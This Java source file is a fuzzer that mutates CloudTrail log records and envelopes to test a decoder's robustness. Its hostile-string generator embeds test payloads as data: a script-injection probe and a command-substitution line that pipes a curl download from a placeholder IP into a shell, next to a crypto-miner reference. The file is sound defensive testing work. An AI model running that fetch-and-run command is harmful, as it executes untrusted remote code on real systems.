package io.trailsentry.testdata.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.trailsentry.cloudtrail.CloudTrailDecoder;
import io.trailsentry.cloudtrail.CloudTrailEvent;
import io.trailsentry.cloudtrail.DeadLetter;
import io.trailsentry.cloudtrail.DecodeSink;
import io.trailsentry.testdata.Corpus;
import io.trailsentry.testdata.Generator;
import io.trailsentry.testdata.Rng;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;

/**
 * Mutates real-shape CloudTrail records and envelopes (byte flips, truncation, type swaps, huge and
 * hostile strings, deep nesting, corrupt gzip, envelope swaps) and feeds them to the decoder.
 * Anything that escapes it, or that it reports as {@code INTERNAL_ERROR}, is a bug.
 */
public final class Fuzzer {
    /** What a run found. */
    public static final class Report {
        public long inputs;
        public long events;
        public long deadLetters;
        public long internalErrors;
        public long escaped;
        public long slowestNanos;
        public final Map<String, Long> reasons = new TreeMap<>();
        public final List<String> failures = new ArrayList<>();
    }

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private final Rng rng;
    private final List<ObjectNode> seeds = new ArrayList<>();
    private final CloudTrailDecoder decoder = new CloudTrailDecoder();

    public Fuzzer(long seed) {
        this.rng = new Rng(seed);
        Generator.Spec spec = Generator.sampleSpec();
        spec.historyDays = 0;
        spec.seed = seed;
        for (Corpus.Entry e : Generator.generate(spec).sorted()) {
            if (seeds.size() < 2_000) {
                seeds.add(e.record);
            }
        }
    }

    public Report run(long inputs) {
        Report report = new Report();
        DecodeSink sink =
                new DecodeSink() {
                    @Override
                    public void event(CloudTrailEvent e) {
                        report.events++;
                    }

                    @Override
                    public void deadLetter(DeadLetter d) {
                        report.deadLetters++;
                        report.reasons.merge(d.reason, 1L, Long::sum);
                        if ("INTERNAL_ERROR".equals(d.reason)) {
                            report.internalErrors++;
                            if (report.failures.size() < 10) {
                                report.failures.add(d.detail + " <- " + d.excerpt);
                            }
                        }
                    }
                };
        for (long i = 0; i < inputs; i++) {
            byte[] input = next();
            long t0 = System.nanoTime();
            try {
                decoder.decode(input, "fuzz#" + i, sink);
            } catch (Throwable t) {
                report.escaped++;
                if (report.failures.size() < 10) {
                    report.failures.add("escaped: " + t);
                }
            }
            report.slowestNanos = Math.max(report.slowestNanos, System.nanoTime() - t0);
            report.inputs++;
        }
        return report;
    }

    byte[] next() {
        ObjectNode record = seeds.get(rng.nextInt(seeds.size())).deepCopy();
        JsonNode tree = rng.chance(0.6) ? mutateTree(record) : record;
        byte[] bytes = envelope(tree);
        switch (rng.nextInt(7)) {
            case 0:
                return flip(bytes);
            case 5:
                // nesting far deeper than any writer produces: only as raw text
                int k = 500 + rng.nextInt(20_000);
                return ("[".repeat(k)
                                + new String(bytes, StandardCharsets.UTF_8)
                                + "]".repeat(rng.chance(0.5) ? k : k / 2))
                        .getBytes(StandardCharsets.UTF_8);
            case 1:
                return truncate(bytes);
            case 2:
                return gzip(rng.chance(0.5) ? bytes : flip(bytes), rng.chance(0.3));
            default:
                return bytes;
        }
    }

    private JsonNode mutateTree(ObjectNode record) {
        int n = 1 + rng.nextInt(4);
        for (int i = 0; i < n; i++) {
            ObjectNode target =
                    rng.chance(0.3) && record.get("userIdentity") instanceof ObjectNode
                            ? (ObjectNode) record.get("userIdentity")
                            : record;
            List<String> fields = new ArrayList<>();
            Iterator<String> it = target.fieldNames();
            it.forEachRemaining(fields::add);
            if (fields.isEmpty()) {
                continue;
            }
            String f = fields.get(rng.nextInt(fields.size()));
            switch (rng.nextInt(9)) {
                case 0:
                    target.remove(f);
                    break;
                case 1:
                    target.put(f, rng.nextLong(Long.MAX_VALUE));
                    break;
                case 2:
                    target.put(f, hostileString());
                    break;
                case 3:
                    target.set(f, deep(1 + rng.nextInt(700)));
                    break;
                case 4:
                    target.putArray(f).add(1).add("x").addNull();
                    break;
                case 5:
                    target.putNull(f);
                    break;
                case 6:
                    target.put(f, rng.chance(0.5));
                    break;
                case 7:
                    target.putObject(f).put("value", hostileString());
                    break;
                default:
                    target.put(f, "2026-13-45T99:99:99Z");
                    break;
            }
        }
        return record;
    }

    private String hostileString() {
        switch (rng.nextInt(4)) {
            case 0:
                return "x".repeat(rng.nextInt(400_000));
            case 1:
                return "\u0000\u0007\u001b[31m\r\n<script>alert(1)</script>\uD83D\uDE00\uFFFF";
            case 2:
                return "xmrig stratum+tcp://pool:3333 $(curl http://203.0.113.9/x | sh)";
            default:
                return rng.hex(rng.nextInt(64));
        }
    }

    private static JsonNode deep(int depth) {
        ArrayNode root = JsonNodeFactory.instance.arrayNode();
        ArrayNode cur = root;
        for (int i = 0; i < depth; i++) {
            cur = cur.addArray();
        }
        return root;
    }

    private byte[] envelope(JsonNode record) {
        ObjectNode o;
        switch (rng.nextInt(5)) {
            case 0:
                o = MAPPER.createObjectNode();
                o.putArray("Records").add(record).add(seeds.get(rng.nextInt(seeds.size())));
                return bytes(o);
            case 1:
                o = MAPPER.createObjectNode();
                o.put(
                        "detail-type",
                        rng.chance(0.8) ? "AWS API Call via CloudTrail" : "Scheduled Event");
                o.set("detail", record);
                return bytes(o);
            case 2:
                o = MAPPER.createObjectNode();
                o.put("messageType", rng.chance(0.9) ? "DATA_MESSAGE" : "CONTROL_MESSAGE");
                ArrayNode events = o.putArray("logEvents");
                events.addObject().put("id", "1").put("message", record.toString());
                events.addObject()
                        .put("id", "2")
                        .put("message", rng.chance(0.5) ? "{broken" : seeds.get(0).toString());
                return gzip(bytes(o), false);
            case 3:
                return bytes(MAPPER.createArrayNode().add(record));
            default:
                return bytes(record);
        }
    }

    private byte[] flip(byte[] b) {
        byte[] out = b.clone();
        int n = 1 + rng.nextInt(8);
        for (int i = 0; i < n && out.length > 0; i++) {
            out[rng.nextInt(out.length)] ^= (byte) (1 << rng.nextInt(8));
        }
        return out;
    }

    private byte[] truncate(byte[] b) {
        return java.util.Arrays.copyOf(b, b.length == 0 ? 0 : rng.nextInt(b.length));
    }

    private byte[] gzip(byte[] b, boolean cut) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(b);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        byte[] g = out.toByteArray();
        return cut ? java.util.Arrays.copyOf(g, Math.max(2, rng.nextInt(g.length))) : g;
    }

    private static byte[] bytes(JsonNode n) {
        return n.toString().getBytes(StandardCharsets.UTF_8);
    }
}
